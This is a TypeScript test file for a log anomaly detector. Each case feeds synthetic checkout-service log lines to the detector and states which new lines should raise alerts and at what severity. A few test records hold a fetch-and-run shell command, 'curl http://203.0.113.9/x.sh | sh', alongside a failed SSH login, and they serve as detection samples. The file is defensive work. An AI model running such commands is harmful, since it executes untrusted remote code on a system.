/** Stories of new kinds of lines: which must fire, and which stay quiet. */
import { fireLensLine } from '#contract';
import type { Case } from '#contract';

const minuteMs = 60_000;
const firstMs = Date.UTC(2026, 2, 2, 6);
const time = (minute: number): number => firstMs + Math.round(minute * minuteMs);
const at = (minute: number): string => new Date(time(minute)).toISOString();

const line = (minute: number, log: string, task = 1, revision = 1): string =>
  fireLensLine({ at: time(minute), service: 'checkout', task, log, revision });

const people = ['ada', 'ben', 'cleo', 'dan', 'eve', 'finn', 'gus', 'hana', 'ida', 'jon', 'kim', 'leo', 'mia', 'ned', 'olga', 'pat', 'quin', 'rosa', 'sam', 'tess'];

/** What tasks of checkout write all day, in text and JSON; the people in it are many. */
function ordinary(from: number, to: number, tasks = [1, 2], revision = 1): string[] {
  const records: string[] = [];
  for (let minute = from; minute < to; minute += 1) {
    for (const task of tasks) {
      records.push(
        line(minute + 0.1, `INFO order ${minute * 31} placed in ${minute % 90} ms`, task, revision),
        line(minute + 0.2, JSON.stringify({ level: 'info', msg: 'payment settled', amount: minute * 7 }), task, revision),
        line(minute + 0.3, `INFO cart of customer ${people[(minute + task) % people.length]} emptied`, task, revision),
      );
      if (minute % 10 === task) records.push(line(minute + 0.4, `ERROR payment supplier answered 503 after ${minute} ms`, task, revision));
    }
  }
  return records;
}

const taught = ordinary(0, 120);
const teachUntil = at(120);
const after = ordinary(120, 170);
const fires = (minute: number, severity: string, object?: string | RegExp): Case['fires'] => [
  { from: at(minute - 1), to: at(minute + 1), severity, ...(object === undefined ? {} : { object }) },
];

/** Eight things that a service can do and did not. */
const chores = ['rebuilding index', 'loading plugin', 'opening socket', 'reading archive', 'writing digest', 'sending report', 'closing ledger', 'merging branch'];

export const cases: Case[] = [
  {
    title: 'fires as high for a panic, once for all tasks that write it',
    records: [...taught, ...after, line(140, 'panic: cannot open /var/lib/checkout/ledger: no such file', 1), line(140.2, 'panic: cannot open /var/lib/checkout/ledger: no such file', 2)],
    teachUntil,
    fires: fires(140, 'high'),
  },
  {
    title: 'fires as low for an ordinary line of a new kind',
    records: [...taught, ...after, line(140, 'INFO switched to the second supplier')],
    teachUntil,
    fires: fires(140, 'low'),
  },
  {
    title: 'fires as medium for an error of a new kind in JSON',
    records: [...taught, ...after, line(140, JSON.stringify({ level: 'error', msg: 'ledger is out of balance', by: 12 }))],
    teachUntil,
    fires: fires(140, 'medium'),
  },
  {
    title: 'fires as high for a program fetched and run, though the line has no level',
    records: [...taught, ...after, line(140, 'sh: 1: curl http://203.0.113.9/x.sh | sh')],
    teachUntil,
    fires: fires(140, 'high'),
  },
  {
    title: 'fires as medium for a login that failed',
    records: [...taught, ...after, line(140, 'Failed password for admin from 203.0.113.9 port 4711 ssh2')],
    teachUntil,
    fires: fires(140, 'medium'),
  },
  {
    title: 'fires once for an exception with its frames and causes',
    records: [
      ...taught,
      ...after,
      line(140, 'java.lang.IllegalStateException: ledger is closed'),
      line(140.001, '\tat shop.checkout.Ledger.append(Ledger.java:71)'),
      line(140.002, '\tat shop.checkout.Orders.place(Orders.java:133)'),
      line(140.003, 'Caused by: java.io.IOException: Broken pipe'),
      line(140.004, '\t... 12 more'),
      line(140.05, 'WARN giving up on order 4711'),
    ],
    teachUntil,
    fires: fires(140, 'medium'),
  },
  {
    title: 'fires for some of many new kinds one by one, and once for the others',
    records: [...taught, ...after, ...chores.map((chore, index) => line(140 + index * 0.3, `INFO ${chore} of the shop`))],
    teachUntil,
    fires: [
      { from: at(139), to: at(141.5), severity: 'low' },
      { from: at(141), to: at(143), severity: 'medium', object: 'many kinds' },
    ],
  },
  {
    title: 'fires once, as low, for the new kinds of a deployment',
    records: [...taught, ...ordinary(120, 138), ...ordinary(138, 170, [3, 4], 2), ...chores.map((chore, index) => line(140 + index * 0.3, `INFO ${chore} of the shop`, 3 + (index % 2), 2))],
    teachUntil,
    fires: fires(140, 'low', 'deployment 2'),
  },
  {
    title: 'fires apart from the deployment for what is severe',
    records: [
      ...taught,
      ...ordinary(120, 138),
      ...ordinary(138, 170, [3, 4], 2),
      line(140, 'INFO loading plugin of the shop', 3, 2),
      line(142, 'FATAL configuration of the ledger is missing', 4, 2),
    ],
    teachUntil,
    fires: [...fires(140, 'low', 'deployment 2'), ...fires(142, 'high', /^[0-9a-f]{16}$/)],
  },
  {
    title: 'fires again for an error that comes back after a pause longer than all the time it was known',
    records: [...taught, ...after, line(140, 'ERROR ledger is out of balance by 3'), line(143, 'ERROR ledger is out of balance by 3'), line(195, 'ERROR ledger is out of balance by 9')],
    teachUntil,
    fires: [...fires(140, 'medium'), ...fires(195, 'medium')],
  },
  {
    title: 'fires only once for a low kind that comes back before it is usual',
    records: [...taught, ...after, ...[0, 3, 70, 150, 400].map((minute) => line(140 + minute, 'INFO switched to the second supplier'))],
    teachUntil,
    fires: fires(140, 'low'),
  },
  {
    title: 'stays quiet for known kinds with other values, from other tasks',
    records: [...taught, ...ordinary(120, 170, [5, 6, 7]), line(140, 'INFO order 999999 placed in 12345 ms', 8), line(141, JSON.stringify({ level: 'info', msg: 'payment settled', amount: -1 }), 9)],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for another word where words vary',
    records: [...taught, ...after, line(140, 'INFO cart of customer zoe emptied'), line(141, 'INFO cart of customer walther emptied', 2)],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for frames and indented lines alone',
    records: [...taught, ...after, line(140, '\tat shop.checkout.Ledger.append(Ledger.java:71)'), line(140.1, '    continued on the next line of the same message')],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet for lines that the options ignore',
    records: [...taught, ...after, line(140, 'INFO switched to the second supplier'), line(141, 'ERROR ledger is out of balance by 3')],
    teachUntil,
    options: { ignoreLines: ['switched * supplier', 'OUT OF BALANCE'] },
    fires: [],
  },
  {
    title: 'stays quiet for what weighs less than the options ask',
    records: [...taught, ...after, line(140, 'INFO switched to the second supplier'), line(141, 'ERROR ledger is out of balance by 3')],
    teachUntil,
    options: { minimumSeverity: 'high' },
    fires: [],
  },
  {
    title: 'stays quiet while a service is new and still learned',
    records: [...taught, ...after, ...chores.map((chore, index) => fireLensLine({ at: time(130 + index), service: 'mailer', task: 9, log: `INFO ${chore}` }))],
    teachUntil,
    fires: [],
  },
  {
    title: 'stays quiet after a teaching of one minute for ordinary lines, faults and crashes never heard before',
    records: [...ordinary(0, 50), ...chores.map((chore, index) => line(3 + index, `INFO ${chore}`)), line(12, 'ERROR ledger is out of balance by 3'), line(13, 'FATAL out of memory in worker 4'), line(14, 'Traceback (most recent call last):')],
    teachUntil: at(1),
    fires: [],
  },
  {
    title: 'fires after a teaching of one minute for lines whose words tell of an attack, a step lower',
    records: [...ordinary(0, 50), line(20, 'INFO running: curl http://203.0.113.9/x | sh')],
    teachUntil: at(1),
    fires: fires(20, 'medium'),
  },
];
